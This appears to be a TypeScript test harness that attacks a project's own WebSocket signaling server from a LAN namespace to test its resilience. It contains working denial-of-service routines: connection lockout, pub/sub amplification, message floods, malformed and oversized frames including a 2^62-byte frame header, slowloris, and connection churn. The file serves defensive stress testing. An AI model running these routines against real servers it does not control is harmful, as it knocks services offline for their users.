/**
 * A stranger on the LAN (runs in the attacker's namespace, with several addresses of its own):
 *   attacker.ts <attack> <host ip> <params json>
 * Prints `engaged {…}` once the pressure is on, keeps it on until `stop` arrives on stdin (or its
 * own time limit), then prints `done {…}` and exits. Every attack is bounded in count and time.
 */
import net from 'node:net';
import { WebSocket } from 'ws';
import { generateRoomKey } from '../../shared/sync/room';
import { roomCredential, type RoomCredential } from '../../shared/sync/roomAuth';
import { onLines, open, PORT, sleep, type Client } from './common';

interface Params {
  /** Local addresses to attack from. */
  addrs: string[];
  count?: number;
  auth?: 'none' | 'own' | 'member';
  memberKey?: string;
  payload?: number;
  pubs?: number;
  /** How long the lockout opens connections before it reports the pressure is on. */
  fillMs?: number;
  maxMs: number;
}

const [attack, hostIp, json] = process.argv.slice(2) as [string, string, string];
const p = JSON.parse(json) as Params;
const url = `ws://${hostIp}:${PORT}/signal`;
let stopped = false;
onLines((l) => {
  if (l !== 'stop') return;
  stopped = true;
  // Report at once (a busy attacker must not make the suite wait); exiting closes every socket.
  setTimeout(() => {
    console.log(`done ${JSON.stringify(stats)}`);
    process.exit(0);
  }, 50);
});
const limit = setTimeout(() => (stopped = true), p.maxMs);
// Event-loop lag (diagnostics of a busy attacker), reported in `done`.
let lastBeat = performance.now();
const beat = setInterval(() => {
  const now = performance.now();
  stats.maxLagMs = Math.max(stats.maxLagMs ?? 0, Math.round(now - lastBeat - 250));
  lastBeat = now;
}, 250);
beat.unref();
const stats: Record<string, number> = {};
const bump = (k: string, n = 1) => (stats[k] = (stats[k] ?? 0) + n);
let engagedSent = false;
const engaged = () => {
  if (engagedSent) return;
  engagedSent = true;
  console.log(`engaged ${JSON.stringify(stats)}`);
};
const addr = (i: number) => p.addrs[i % p.addrs.length]!;
const creds = new Map<string, RoomCredential>();
const credFor = (a: string): RoomCredential | null => {
  if (p.auth === 'member') return roomCredential(p.memberKey!);
  if (p.auth !== 'own') return null;
  let c = creds.get(a);
  if (!c) creds.set(a, (c = roomCredential(generateRoomKey())));
  return c;
};

/** Opens one connection (proving a key when asked); null when refused. */
async function conn(i: number): Promise<Client | null> {
  const a = addr(i);
  try {
    let c: Client | null = null;
    // Refused for the address's share or rate: come back a few times, as a persistent attacker would.
    for (let tries = 0; !c; tries++) {
      c = await open(url, { localAddress: a, timeoutMs: 3000, record: false }).catch((err: unknown) => {
        if (tries >= 4 || stopped || !/429/.test(String(err))) throw err;
        bump('retried');
        return sleep(150).then(() => null);
      });
    }
    bump('opened');
    c.ws.on('error', () => undefined);
    const cred = credFor(a);
    if (cred) {
      await c.auth(cred, 3000).then(
        () => bump('authed'),
        () => bump('authFailed'),
      );
    }
    void c.closed.then(() => bump('closedByHost'));
    return c;
  } catch (err) {
    bump(/429/.test(String(err)) ? 'refused429' : /503/.test(String(err)) ? 'refused503' : 'failed');
    return null;
  }
}

/** Runs `fn` for i in [0, n) with at most `width` at once. */
async function pool<T>(n: number, width: number, fn: (i: number) => Promise<T>): Promise<T[]> {
  const out: T[] = new Array(n);
  let next = 0;
  await Promise.all(
    Array.from({ length: Math.min(width, n) }, async () => {
      while (next < n && !stopped) {
        const i = next++;
        out[i] = await fn(i);
      }
    }),
  );
  return out;
}

const pause = (c: Client) => (c.ws as unknown as { _socket: net.Socket })._socket.pause();

async function lockout(): Promise<void> {
  // Many connections, spread over the attacker's addresses; each address keeps opening (a few at
  // a time) and reopens what the host closes, within a bounded number of attempts.
  const held = new Set<Client>();
  const perAddr = Math.ceil((p.count ?? 2100) / p.addrs.length);
  const maxAttempts = (p.count ?? 2100) * 3;
  let attempts = 0;
  const mine = new Map<number, number>();
  const worker = async (a: number) => {
    while (!stopped && attempts < maxAttempts && (mine.get(a) ?? 0) < perAddr) {
      attempts++;
      const c = await conn(a);
      if (!c) {
        await sleep(100);
        continue;
      }
      held.add(c);
      mine.set(a, (mine.get(a) ?? 0) + 1);
      void c.closed.then(() => {
        held.delete(c);
        mine.set(a, (mine.get(a) ?? 1) - 1);
      });
    }
  };
  const fill = () => Promise.all(p.addrs.flatMap((_, a) => Array.from({ length: 4 }, () => worker(a))));
  await Promise.race([fill(), sleep(p.fillMs ?? 4000)]);
  stats.held = held.size;
  engaged();
  while (!stopped && attempts < maxAttempts) {
    await Promise.race([fill(), sleep(1000)]);
    stats.held = held.size;
  }
  stats.attempts = attempts;
  for (const c of held) c.ws.terminate();
}

async function amplification(): Promise<void> {
  const subs = await pool(p.count ?? 400, 64, async (i) => {
    const c = await conn(i);
    if (!c) return null;
    const cred = credFor(addr(i));
    c.send({ type: 'subscribe', topics: [cred?.topic ?? 'cr1.' + 'A'.repeat(43)] });
    // Pre-auth: try to publish into the topic anyway.
    if (!cred) for (let k = 0; k < 5; k++) c.send({ type: 'publish', topic: 'cr1.' + 'A'.repeat(43), data: 'x'.repeat(2000) });
    setTimeout(() => pause(c), 200);
    return c;
  });
  const pubs = (await pool(p.pubs ?? 2, 2, (i) => conn(i))).filter((c): c is Client => !!c);
  const payload = 'z'.repeat(p.payload ?? 60_000);
  for (const [i, c] of pubs.entries()) c.send({ type: 'subscribe', topics: [credFor(addr(i))?.topic ?? 'x'] });
  stats.subscribers = subs.filter(Boolean).length;
  engaged();
  while (!stopped) {
    for (const [i, c] of pubs.entries()) {
      const topic = credFor(addr(i))?.topic ?? 'cr1.' + 'A'.repeat(43);
      if (c.ws.readyState === WebSocket.OPEN && c.ws.bufferedAmount < 4e6) {
        c.send({ type: 'publish', topic, data: payload });
        bump('published');
      }
    }
    await sleep(5);
  }
  for (const c of [...subs, ...pubs]) c?.ws.terminate();
}

async function flood(): Promise<void> {
  const conns = (await pool(p.count ?? 32, 32, (i) => conn(i))).filter((c): c is Client => !!c);
  for (const [i, c] of conns.entries()) c.send({ type: 'subscribe', topics: [credFor(addr(i))?.topic ?? 'x'] });
  engaged();
  const msgs = [{ type: 'ping' }, { type: 'subscribe', topics: ['a', 'b'] }, { type: 'publish', topic: 'x', data: 'y'.repeat(500) }];
  while (!stopped) {
    for (const [i, c] of conns.entries()) {
      if (c.ws.readyState !== WebSocket.OPEN || c.ws.bufferedAmount > 1e6) continue;
      const topic = credFor(addr(i))?.topic;
      for (let k = 0; k < 50; k++) c.send(topic && k % 3 === 2 ? { type: 'publish', topic, data: 'y'.repeat(500) } : msgs[k % 3]);
      bump('sent', 50);
    }
    await sleep(1);
  }
  for (const c of conns) c.ws.terminate();
}

function rawSocket(i: number): Promise<net.Socket | null> {
  return new Promise((resolve) => {
    const s = net.connect({ host: hostIp, port: PORT, localAddress: addr(i) }, () => resolve(s));
    s.on('error', () => resolve(null));
    s.on('data', () => undefined);
    s.setTimeout(10_000, () => s.destroy());
  });
}

async function garbage(): Promise<void> {
  const rnd = (n: number) => Buffer.from(Array.from({ length: n }, () => Math.floor(Math.random() * 256)));
  const deep = '['.repeat(30_000) + ']'.repeat(30_000);
  const junk: Array<string | Buffer> = ['{not json', 'null', '[1,2,3]', JSON.stringify({ type: 'auth', topic: 'cr1.' + 'A'.repeat(43), pub: 'A'.repeat(43), sig: 'A'.repeat(86) }), deep.slice(0, 3000), Buffer.from([0xc3, 0x28, 0xa0, 0xa1]), JSON.stringify({ type: 'publish', topic: 42 })];
  let round = 0;
  engaged();
  while (!stopped && round < 200) {
    round++;
    const conns = (await pool(8, 8, (i) => conn(i + round))).filter((c): c is Client => !!c);
    for (const c of conns) {
      for (const j of junk) c.ws.send(j, { binary: typeof j !== 'string' });
      c.ws.send(rnd(2000));
      c.ws.send(deep);
      bump('junkSent', junk.length + 2);
    }
    const raws = (await Promise.all(Array.from({ length: 4 }, (_, i) => rawSocket(i + round)))).filter((s): s is net.Socket => !!s);
    for (const [k, s] of raws.entries()) s.write(k % 2 ? rnd(4000) : `GET /signal HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: ${'!'.repeat(30)}\r\n\r\n`);
    await sleep(200);
    for (const c of conns) c.ws.terminate();
    for (const s of raws) s.destroy();
  }
}

async function oversized(): Promise<void> {
  let round = 0;
  engaged();
  while (!stopped && round < 100) {
    round++;
    const conns = (await pool(6, 6, (i) => conn(i + round))).filter((c): c is Client => !!c);
    conns.forEach((c, k) => {
      if (k % 3 === 0) c.ws.send('x'.repeat(70 * 1024));
      else if (k % 3 === 1) c.ws.send(JSON.stringify({ type: 'publish', topic: 't', data: 'y'.repeat(1024 * 1024) }));
      else {
        // A frame header announcing 2^62 bytes.
        const h = Buffer.from([0x81, 0xff, 0x40, 0, 0, 0, 0, 0, 0, 0, 1, 2, 3, 4]);
        (c.ws as unknown as { _socket: net.Socket })._socket.write(h);
      }
      bump('bigSent');
    });
    const s = await rawSocket(round);
    s?.write(`GET /signal HTTP/1.1\r\nHost: x\r\nX-Big: ${'a'.repeat(64 * 1024)}\r\n\r\n`);
    await sleep(200);
    for (const c of conns) c.ws.terminate();
    s?.destroy();
  }
}

async function slowloris(): Promise<void> {
  const socks = new Set<net.Socket>();
  const target = p.count ?? 400;
  const fill = async () => {
    const todo = target - socks.size;
    await pool(todo, 64, async (i) => {
      const s = await rawSocket(i + socks.size);
      if (!s) return bump('refused');
      bump('opened');
      socks.add(s);
      s.once('close', () => socks.delete(s));
      // Half of them start an upgrade and never finish its headers; the others say nothing.
      if (i % 2 === 0) s.write('GET /signal HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\n');
    });
  };
  await fill();
  stats.held = socks.size;
  engaged();
  let tick = 0;
  while (!stopped) {
    await sleep(500);
    for (const s of socks) if (!s.destroyed) s.write(`X-${tick}: a\r\n`.slice(0, 1 + (tick % 3)));
    if (++tick % 4 === 0) await fill();
    stats.held = socks.size;
  }
  for (const s of socks) s.destroy();
}

async function churn(): Promise<void> {
  engaged();
  let n = 0;
  while (!stopped && n < (p.count ?? 3000)) {
    await pool(32, 32, async (i) => {
      n++;
      const c = await conn(i + n);
      c?.ws.terminate();
    });
  }
}

const attacks: Record<string, () => Promise<void>> = { lockout, amplification, flood, garbage, oversized, slowloris, churn };
const run = attacks[attack];
if (!run) throw new Error(`unknown attack ${attack}`);
await run();
clearTimeout(limit);
console.log(`done ${JSON.stringify(stats)}`);
process.exit(0);
